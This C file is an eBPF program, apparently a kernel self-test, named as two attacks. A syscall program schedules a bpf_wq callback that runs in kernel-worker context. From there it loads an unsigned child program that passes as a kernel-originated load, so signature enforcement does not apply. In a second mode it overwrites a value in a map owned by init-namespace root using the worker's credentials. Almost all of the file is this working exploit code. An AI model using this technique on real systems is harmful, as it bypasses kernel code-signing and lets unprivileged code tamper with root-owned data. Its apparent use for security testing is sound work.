// SPDX-License-Identifier: GPL-2.0
/*
 * attack_ipe_wq_kernel_load (test_ipe.c): a syscall program that loads a
 * program through bpf_sys_bpf() from its bpf_wq callback. The callback runs
 * in a kworker, where current->bpf_ctx is NULL: bpf_prog_set_loader()
 * records no loader, and the load looks like the kernel's own
 * (bpf_kernel=TRUE, bpf_sig_enforce's kernel exemption). For comparison,
 * direct() makes the same load from the program's own run.
 */
#include "vmlinux.h"
#include <bpf/bpf_helpers.h>

extern int bpf_wq_init(struct bpf_wq *wq, void *p__map, unsigned int flags) __weak __ksym;
extern int bpf_wq_start(struct bpf_wq *wq, unsigned int flags) __weak __ksym;
extern int bpf_wq_set_callback_impl(struct bpf_wq *wq,
				    int (callback_fn)(void *map, int *key, void *value),
				    unsigned int flags, void *aux__ign) __weak __ksym;

struct elem {
	struct bpf_wq w;
};

struct {
	__uint(type, BPF_MAP_TYPE_ARRAY);
	__uint(max_entries, 1);
	__type(key, int);
	__type(value, struct elem);
} wqmap SEC(".maps");

/* r0 = 0; exit: the child anyone could have written, nobody signed */
__u64 child_insns[2] = { 0xb7, 0x95 };
char child_license[4] = "GPL";
int child_fd = -1000;
int wq_done;
int direct_fd = -1000;

/*
 * attack_token_wq_init_creds (test_ipe.c): mode 1 makes the callback take
 * a map of init-namespace root by its id and overwrite its first value,
 * with the kworker's credentials (init_cred), not the caller's.
 */
int mode;
__u32 victim_id;
int victim_key;
__u64 victim_new = 0x4141414141414141ULL;
int grab_ret = -1000;

static __always_inline int load_child(void)
{
	union bpf_attr attr = {};

	attr.prog_type = BPF_PROG_TYPE_SOCKET_FILTER;
	attr.insns = (long)child_insns;
	attr.insn_cnt = 2;
	attr.license = (long)child_license;
	__builtin_memcpy(attr.prog_name, "wq_child", 9);
	return bpf_sys_bpf(BPF_PROG_LOAD, &attr, sizeof(attr));
}

static __always_inline int grab_map(void)
{
	union bpf_attr attr = {};
	int fd, ret;

	attr.map_id = victim_id;
	fd = bpf_sys_bpf(BPF_MAP_GET_FD_BY_ID, &attr, sizeof(attr));
	if (fd < 0)
		return fd;
	__builtin_memset(&attr, 0, sizeof(attr));
	attr.map_fd = fd;
	attr.key = (long)&victim_key;
	attr.value = (long)&victim_new;
	ret = bpf_sys_bpf(BPF_MAP_UPDATE_ELEM, &attr, sizeof(attr));
	bpf_sys_close(fd);
	return ret;
}

static int load_cb(void *map, int *key, void *value)
{
	int fd;

	if (mode == 1) {
		grab_ret = grab_map();
	} else {
		/* the fd is the kworker's (init_files): keep the result only */
		fd = load_child();
		child_fd = fd;
		if (fd >= 0)
			bpf_sys_close(fd);
	}
	wq_done = 1;
	return 0;
}

SEC("syscall")
int start(void *ctx)
{
	struct elem *e;
	int key = 0;

	e = bpf_map_lookup_elem(&wqmap, &key);
	if (!e)
		return 1;
	/* -EBUSY once initialised: the next run reuses it */
	bpf_wq_init(&e->w, &wqmap, 0);
	if (bpf_wq_set_callback_impl(&e->w, load_cb, 0, NULL))
		return 3;
	if (bpf_wq_start(&e->w, 0))
		return 4;
	return 0;
}

SEC("syscall")
int direct(void *ctx)
{
	direct_fd = load_child();
	return 0;
}

char LICENSE[] SEC("license") = "GPL";
